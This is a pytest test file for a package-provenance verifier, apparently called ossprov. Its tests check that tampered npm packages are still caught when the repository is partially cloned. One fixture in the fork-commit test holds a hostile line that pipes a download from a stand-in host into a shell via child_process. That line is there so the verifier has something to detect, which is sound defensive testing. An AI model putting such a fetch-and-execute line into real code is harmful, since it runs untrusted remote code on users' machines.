"""Partial clones (issue 16, cold runs): where the host supports it, a repository is cloned without file contents
(`--filter=blob:none`) and a content is fetched the first time it is read. The verdict must not change: every
attack of the hijacked registry is still caught, a genuine package still passes, content search still pins, a
rebuild still gets the whole tree, and a warm run still asks origin nothing."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from ossprov import stages
from ossprov.errors import OfflineError
from ossprov.fixtures import hijack
from ossprov.fixtures.world import World
from ossprov.model import Severity, Verdict
from ossprov.source.git import Repo, clone_dir_for, ensure_clone, git_blob_id
from ossprov.verify.rebuild import export_tree
from tests.conftest import npm_project, only_result


def _filtering_forge(world: World) -> None:
    """Let the loopback forge serve partial clones, as the big forges do (git's default is not to)."""
    for config in (world.root / "forge").rglob("config"):
        if (config.parent / "objects").is_dir():
            subprocess.run(["git", "config", "--file", str(config), "uploadpack.allowFilter", "true"], check=True)


def _clone_of(result: stages.VerifyResult) -> Repo:
    assert result.locate.repository is not None
    repo = Repo(clone_dir_for(result.locate.repository.url))
    assert repo.partial, "the forge allows filters: the clone should be partial"
    return repo


@pytest.mark.parametrize("case_name", sorted(hijack.ATTACKS) + sorted(hijack.GENUINE))
def test_verdicts_hold_through_a_partial_clone(world: World, case_name: str) -> None:
    """Every attack of the hijacked registry still caught, every genuine package still passing."""
    case = (hijack.ATTACKS.get(case_name) or hijack.GENUINE[case_name])(world)
    _filtering_forge(world)
    result = stages.verify(case.purl)
    _clone_of(result)
    highs = [f for f in result.findings if f.severity is Severity.HIGH]
    if case.tampered:
        assert result.verdict is Verdict.MISMATCH and any(f.path == case.tampered for f in highs), result.findings
    else:
        assert result.verdict in (Verdict.FAITHFUL, Verdict.FAITHFUL_WITH_BUILD_OUTPUT) and not highs, \
            (result.reason, result.findings)


def test_content_search_pins_without_gitHead_and_a_rebuild_gets_the_whole_tree(world: World,
                                                                              tmp_path: Path) -> None:
    files = {f"lib/m{i}.js": f"exports.n = {i};\n" for i in range(12)}
    repo, pkg = npm_project(world, "acme/nohead", "nohead", "1.0.0", files)
    released = repo.commit("release")
    tarball = world.npm_pack(pkg)
    repo.commit("later", {"lib/m0.js": "exports.n = 'changed';\n"})
    purl = world.publish_npm(tarball)  # no gitHead, no tag: only content says which commit
    _filtering_forge(world)
    result = stages.verify(purl)
    clone = _clone_of(result)
    assert result.locate.commit == released and result.verdict is Verdict.FAITHFUL
    dest = tmp_path / "export"
    export_tree(clone.path, released, dest)
    assert (dest / "lib" / "m11.js").read_text() == "exports.n = 11;\n"


def test_a_warm_run_on_a_partial_clone_asks_origin_nothing(world: World, tmp_path: Path,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OSSPROV_METADATA_MAX_AGE", "3600")
    repo, pkg = npm_project(world, "acme/warmpartial", "warmpartial", "1.0.0",
                            {f"lib/m{i}.js": f"exports.n = {i};\n" for i in range(7)})
    sha = repo.commit("release")
    purl = world.publish_npm(world.npm_pack(pkg), git_head=sha)
    _filtering_forge(world)
    log = tmp_path / "git.log"
    bindir = tmp_path / "bin"
    bindir.mkdir()
    real = subprocess.run(["sh", "-c", "command -v git"], capture_output=True, text=True, check=True).stdout.strip()
    (bindir / "git").write_text(f'#!/bin/sh\necho "$*" >> "{log}"\nexec {real} "$@"\n')
    (bindir / "git").chmod(0o755)
    env = {**os.environ, "PATH": f"{bindir}:{os.environ['PATH']}"}

    def verify() -> str:
        proc = subprocess.run([sys.executable, "-m", "ossprov", "verify", purl, "--format", "json"], env=env,
                              capture_output=True, text=True, timeout=120)
        assert proc.returncode == 0, proc.stderr
        return only_result(proc.stdout)["verdict"]

    assert verify() == "faithful"
    assert any(line.startswith("clone") and "--filter=blob:none" in line for line in log.read_text().splitlines())
    log.unlink()
    assert world.server
    world.server.requests.clear()
    assert verify() == "faithful"
    calls = log.read_text().splitlines() if log.exists() else []  # a warm run may start no git at all
    assert world.server.requests == []
    assert not [c for c in calls if c.split()[0] in ("fetch", "clone")], calls
    assert len(calls) <= 2, calls  # the reader, and the user's mirror settings it may fetch through


def test_offline_a_content_the_partial_clone_lacks_is_an_error_not_a_missing_file(
        world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    repo = world.repo("acme/lacks")
    repo.commit("files", {"a.txt": "alpha\n", "b.txt": "beta\n"})
    _filtering_forge(world)
    clone = Repo(ensure_clone(repo.url))
    assert clone.partial
    blob_a, blob_b = git_blob_id(b"alpha\n"), git_blob_id(b"beta\n")
    assert dict(clone.read_blobs([blob_a])) == {blob_a: b"alpha\n"}  # fetched on first read
    monkeypatch.setenv("OSSPROV_OFFLINE", "1")
    assert dict(clone.read_blobs([blob_a])) == {blob_a: b"alpha\n"}  # now in the clone
    with pytest.raises(OfflineError, match="not in the cached partial clone"):
        list(clone.read_blobs([blob_b]))


def test_a_commit_the_forge_serves_only_by_its_id_is_not_in_the_repository(world: World) -> None:
    """The forge serves a fork's (or a pull request's) objects through the parent's URL to whoever names them,
    and a partial clone asks origin for any object it lacks. A gitHead naming such a commit, holding the
    tampered file, must not be fetched into the clone and pinned as the repository's own commit."""
    repo, pkg = npm_project(world, "acme/forkhead", "forkhead", "1.0.0",
                            {f"lib/m{i}.js": f"exports.n = {i};\n" for i in range(4)})
    repo.commit("release")
    repo.tag("v1.0.0")
    forked = repo.commit("in a fork", {"lib/m0.js": "require('child_process').exec('curl x.example|sh');\n"},
                         push=False)
    subprocess.run(["git", "push", "-q", "origin", "HEAD:refs/pull/7/head"], cwd=repo.path, check=True)
    purl = world.publish_npm(world.npm_pack(pkg), git_head=forked)
    _filtering_forge(world)
    for config in (world.root / "forge").rglob("config"):
        if (config.parent / "objects").is_dir():
            subprocess.run(["git", "config", "--file", str(config), "uploadpack.allowAnySHA1InWant", "true"],
                           check=True)
    result = stages.verify(purl)
    clone = _clone_of(result)
    assert result.verdict is Verdict.MISMATCH, (result.reason, result.findings)
    assert result.locate.commit != forked
    assert any(f.path == "lib/m0.js" and f.severity is Severity.HIGH for f in result.findings)
    assert not clone.has_commit(forked)
